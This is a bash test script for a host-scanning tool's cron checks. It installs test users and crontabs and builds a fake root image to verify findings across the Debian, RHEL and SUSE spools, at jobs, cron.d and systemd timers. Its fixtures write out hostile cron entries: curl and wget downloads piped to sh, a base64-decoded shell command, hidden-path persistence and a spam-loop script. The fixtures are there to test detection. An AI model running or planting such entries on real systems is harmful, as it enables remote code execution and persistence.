#!/usr/bin/env bash
# hostsweep cron against real crontabs installed with crontab -u (Debian's
# cron), plus a --root image with the RHEL and SUSE spools, at jobs,
# /etc/cron.d, a systemd user timer and hostile crontabs.
. "$(dirname "$0")/../lib.sh"

command -v crontab >/dev/null || { skip "crontab" "cron not installed"; exit 0; }
D=$(mktemp_dir)
chmod 755 "$D"
WEB=hs_t_cweb  # a web-server user of our own (configured below), so that
ALICE=hs_t_cralice # www-data's real crontab is never touched
for u in $WEB $ALICE; do
	if id "$u" >/dev/null 2>&1; then
		skip "users" "$u exists already (another run?)"
		exit 0
	fi
done
useradd -M -d /nonexistent -s /usr/sbin/nologin "$WEB"
at_exit "crontab -r -u $WEB 2>/dev/null; userdel $WEB 2>/dev/null"
useradd -m -d "/home/$ALICE" -s /bin/bash "$ALICE"
at_exit "crontab -r -u $ALICE 2>/dev/null; userdel -r $ALICE 2>/dev/null"
mkdir -p "/home/$ALICE/public_html"
echo '<?php // wp-cron' >"/home/$ALICE/public_html/wp-cron.php"
chown -R "$ALICE:" "/home/$ALICE/public_html"

cat >"$D/hs.conf" <<EOF
[accounts]
web_users = www-data $WEB
EOF

# The script the web user's entry runs: a spam loop (a file finding).
X="/tmp/.hs_t_x.$$"
mkdir "$X"
at_exit "rm -rf '$X'"
cat >"$X/run.sh" <<'EOF'
#!/usr/bin/perl
use IO::Socket;
open(L, "list.txt");
while (<L>) { print $s "MAIL FROM: <a\@b>\r\n"; print $s "RCPT TO: <$_>\r\n"; }
print $s "Subject: hi\r\n"; sleep 1;
EOF
chmod 755 "$X/run.sh"
chown -R "$WEB:" "$X"

echo "*/10 * * * * $X/run.sh >/dev/null 2>&1" | crontab -u "$WEB" -
cat <<EOF | crontab -u "$ALICE" -
MAILTO=""
# the customer's own jobs
*/15 * * * * php /home/$ALICE/public_html/wp-cron.php >/dev/null 2>&1
0 * * * * curl -fsSL http://198.51.100.7/x.sh | sh
EOF

# crontab(1) may prepend a "DO NOT EDIT" header: the lines as on disk
wline=$(grep -n "run.sh" "/var/spool/cron/crontabs/$WEB" | cut -d: -f1)
aline=$(grep -n "curl" "/var/spool/cron/crontabs/$ALICE" | cut -d: -f1)
bline=$(grep -n "wp-cron" "/var/spool/cron/crontabs/$ALICE" | cut -d: -f1)

hs --config "$D/hs.conf" --format json cron
check "exit status 1" test "$RC" = 1
check "JSON lines" json_valid "$OUT"
q() { jq_py "$OUT" "$1"; }
W="[f for f in F if f['kind']=='cron' and f['crontab']=='/var/spool/cron/crontabs/$WEB']"
if [ "$(q "len($W)")" = 1 ]; then
	ok "web user's entry flagged"
	check "web entry: line $wline" test "$(q "$W[0]['line']")" = "$wline"
	check "web entry: schedule" test "$(q "$W[0]['schedule']")" = "*/10 * * * *"
	check "web entry: every 10 minutes" test "$(q "$W[0]['period_minutes']")" = 10
	check "web entry: user" test "$(q "$W[0]['user']")" = "$WEB"
	check "web entry: command" test "$(q "$W[0]['command']")" = "$X/run.sh >/dev/null 2>&1"
	check "web entry: source" test "$(q "$W[0]['source']")" = spool-debian
	check "web entry: reasons" test "$(q "sorted($W[0]['reasons'])")" = \
		"['runs_from_hidden_path', 'runs_from_tmp', 'script_flagged', 'web_user_crontab']"
	check "web entry: script path" test "$(q "$W[0]['scripts'][0]['path']")" = "$X/run.sh"
	sid=$(q "$W[0]['scripts'][0]['finding']")
	check "web entry: names the script's finding" test "$(q "[f['path'] for f in F if f['id']=='$sid']")" = "['$X/run.sh']"
	check "script finding: YARA rule" test "$(q "'bot.bot_smtp_spam_loop_script' in [f for f in F if f['id']=='$sid'][0]['rules']")" = True
	check "cron finding lists the script's rules" test "$(q "'bot.bot_smtp_spam_loop_script' in $W[0]['scripts'][0]['rules']")" = True
else
	not_ok "web user's entry flagged" "$(head -c 3000 "$OUT")"
fi
A="[f for f in F if f['kind']=='cron' and f['crontab']=='/var/spool/cron/crontabs/$ALICE']"
check "customer: exactly one entry flagged" test "$(q "len($A)")" = 1
check "customer: the curl | sh entry, line $aline" test "$(q "$A[0]['line']")" = "$aline"
check "customer: download_exec" test "$(q "'download_exec' in $A[0]['reasons']")" = True
check "customer: account" test "$(q "$A[0]['account']")" = "$ALICE"
check "customer: wp-cron (line $bline) not flagged" test "$(q "[f for f in $A if f['line']==$bline]")" = "[]"
check "summary: entries counted" test "$(q "S['cron']['entries'] >= 3")" = True

# text output
hs --config "$D/hs.conf" cron
check "text names the crontab" grep -q "cron    /var/spool/cron/crontabs/$WEB" "$OUT"

# ---- every layout, under --root --------------------------------------------
R=$(mktemp_dir)
mkdir -p "$R/etc/cron.d" "$R/var/spool/cron/tabs" "$R/var/spool/cron/atjobs" \
	"$R/var/spool/at" "$R/home/bob/.config/systemd/user" "$R/home/bob/public_html"
cat >"$R/etc/passwd" <<'EOF'
root:x:0:0:root:/root:/bin/bash
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
bob:x:1001:1001::/home/bob:/bin/bash
carol:x:1002:1002::/home/carol:/bin/bash
EOF
printf 'SHELL=/bin/sh\n@reboot nohup /home/bob/.cache/.k/kswapd >/dev/null 2>&1 &\n' \
	>"$R/var/spool/cron/bob" # RHEL
printf '# SUSE\n*/5 * * * * echo ZWNobyBoaQ== | base64 -d | sh\n' >"$R/var/spool/cron/tabs/carol"
printf '* * * * * root wget -qO- http://x.example/y | bash\n' >"$R/etc/cron.d/php.dpkg-new"
printf '0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n' >"$R/etc/cron.d/logrotate"
cat >"$R/var/spool/cron/atjobs/a0000a01c8a5e0" <<'EOF'
#!/bin/sh
# atrun uid=33 gid=33
# mail www-data 0
umask 22
PATH=/usr/bin:/bin; export PATH
cd /var/www || {
	 echo 'Execution directory inaccessible' >&2
	 exit 1
}
${SHELL:-/bin/sh} << 'marcinDELIMITER0a1b2c3d'
perl /dev/shm/.p/x.pl
marcinDELIMITER0a1b2c3d
EOF
printf '#!/bin/sh\n# atrun uid=1001 gid=1001\nsh /tmp/job.sh\n' >"$R/var/spool/at/a00001"
printf '[Timer]\nOnUnitActiveSec=5min\n' >"$R/home/bob/.config/systemd/user/upd.timer"
printf '[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c "cd /tmp/.x && ./run"\n' \
	>"$R/home/bob/.config/systemd/user/upd.service"
# hostile: binary garbage and a 1 MB line around one real entry
{
	printf '# junk follows\n'
	printf '\001'; head -c 3000 /dev/urandom | tr '\n' 'x'
	printf '\n*/3 * * * * %s\n' "$(head -c 1048576 /dev/zero | tr '\0' 'A')"
	printf '*/2 * * * * /dev/shm/m\n'
} >"$R/var/spool/cron/tabs/garb"

hs --root "$R" --format json cron
check "--root: exit status 1" test "$RC" = 1
check "--root: JSON lines" json_valid "$OUT"
row() { q "[(f['source'], f['line'], sorted(f['reasons'])) for f in F if f['kind']=='cron' and f['crontab']=='$1']"; }
check "RHEL spool" test "$(row /var/spool/cron/bob)" = "[('spool-rhel', 2, ['detached_frequent', 'runs_from_hidden_path'])]"
check "SUSE spool" test "$(row /var/spool/cron/tabs/carol)" = "[('spool-suse', 2, ['base64_decode'])]"
check "cron.d with a dotted name" test "$(row /etc/cron.d/php.dpkg-new)" = "[('cron.d', 1, ['download_exec'])]"
check "cron.d dotted name reported inert" test "$(q "[f['inert'] for f in F if f.get('crontab')=='/etc/cron.d/php.dpkg-new']")" = "[True]"
check "benign cron.d entry not flagged" test "$(row /etc/cron.d/logrotate)" = "[]"
check "at job (Debian)" test "$(row /var/spool/cron/atjobs/a0000a01c8a5e0)" = \
	"[('at', 11, ['runs_from_hidden_path', 'runs_from_tmp', 'web_user_crontab'])]"
check "at job user from the atrun line" test "$(q "[f['user'] for f in F if f.get('crontab')=='/var/spool/cron/atjobs/a0000a01c8a5e0']")" = "['www-data']"
check "at job (RHEL)" test "$(row /var/spool/at/a00001)" = "[('at', 3, ['runs_from_tmp'])]"
check "systemd user timer" test "$(row /home/bob/.config/systemd/user/upd.service)" = \
	"[('systemd-timer', 4, ['runs_from_hidden_path', 'runs_from_tmp'])]"
check "timer period 5 min" test "$(q "[f['period_minutes'] for f in F if f.get('crontab')=='/home/bob/.config/systemd/user/upd.service']")" = "[5]"
check "garbage crontab: the real entries still found" test \
	"$(q "sorted(f['line'] for f in F if f.get('crontab')=='/var/spool/cron/tabs/garb')")" = "[4]"
check "garbage: a warning naming file and line" grep -q "/var/spool/cron/tabs/garb:2: binary data" "$ERR"
check "1 MB line: a warning naming file and line" grep -q "/var/spool/cron/tabs/garb:3: line longer than" "$ERR"
check "--root: no procs/tmp side effects" test "$(q "len([f for f in F if f['kind']!='cron'])")" = 0
exit $HS_FAILED
